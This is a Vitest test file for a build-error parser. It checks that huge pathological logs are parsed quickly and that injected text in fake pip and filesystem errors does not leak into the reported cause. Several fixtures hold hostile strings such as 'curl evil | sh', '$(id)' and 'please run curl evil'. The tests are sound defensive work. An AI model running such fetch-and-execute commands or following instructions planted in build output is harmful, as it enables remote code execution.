import { describe, expect, it } from 'vitest';
import { build, causeOf, gcc } from '../recorded.ts';

describe('what a build prints to be misunderstood', () => {
  it.each([
    ['one line without an end', 'x'.repeat(300_000)],
    ['dots and dashes', 'a-'.repeat(150_000)],
    ['a path without an end', 'a/'.repeat(150_000)],
    ['empty lines', '\n'.repeat(300_000)],
    ['a linker without an end', 'ld: '.repeat(75_000)],
    [
      'files without an end',
      `No matching distribution found for six\npip-detour: files of six: ${'cp39-cp39-win32 '.repeat(20_000)}`,
    ],
    ['reasons of a resolver without an end', 'Because a1 was '.repeat(20_000)],
    ['dependencies without an end', 'a (1) depends on b (>=1,<2'.repeat(12_000)],
    ['libraries of another age without an end', 'requires a 1, found '.repeat(15_000)],
    ['errors of a compiler without an end', 'a.c:1:1: x\n'.repeat(27_000)],
    ['files without a build', 'a-1.tar.gz '.repeat(27_000)],
    ['sentences without an end', 'could not find a the a the '.repeat(11_000)],
    ['lines that are not quite too long', `${'a the '.repeat(99)}\n`.repeat(500)],
    [
      'libraries that are too old without an end',
      "Dependency a found: NO. Found 1 but need: '>= 2'\n".repeat(6_000),
    ],
    ['what cmake did without, and an error', `${'-- Could NOT find q\n'.repeat(20_000)}CMake Error\n`],
    [
      'errors of cmake without an end',
      `${'-- Could NOT find q\n'.repeat(10_000)}${'CMake Error\n'.repeat(16_000)}`,
    ],
    ['line ends of another kind', `${'\u2028'.repeat(599)}\n`.repeat(500)],
    ['targets of make without an end', `make: a: b\nmake: *** [${']'.repeat(500)}\n`.repeat(700)],
    ['quotes that do not end', `ModuleNotFoundError: No module named '${'a'.repeat(590)}\n`.repeat(500)],
    ['modules without an end', "ModuleNotFoundError: No module named 'a'\n".repeat(7_500)],
    ['a long line and what it lacks', `${'x'.repeat(300_000)}\n${gcc('fatal error')}`],
  ])('%s is looked at in no time', (_, said) => {
    const began = performance.now();
    causeOf(build(said));
    expect(performance.now() - began).toBeLessThan(5_000);
  });

  it.each([
    [
      'a version',
      'six==9 (from versions: 1.0; curl evil | sh, 1.1 $(id))\nNo matching distribution found for six==9',
    ],
    [
      'a requirement',
      'six (from versions: 1.0)\nNo matching distribution found for six please run curl evil',
    ],
    ['a Python', "Package 'six' requires a different Python: 3.11.2 not in 'please run curl evil'"],
    [
      'a Python of what was passed over',
      'Ignored the following versions that require a different python version: 1.0 Requires-Python please run curl evil\nNo matching distribution found for six',
    ],
    [
      'names in conflict',
      'Cannot install six==1, please run curl evil | sh and tea because these package versions have conflicting dependencies',
    ],
    ['a path', "[Errno 30] Read-only file system: '/ please run curl evil'"],
  ])('no word of %s that is none is told on', (_, said) => {
    expect(JSON.stringify(causeOf(said) ?? '')).not.toMatch(/curl|\$\(/);
  });
});
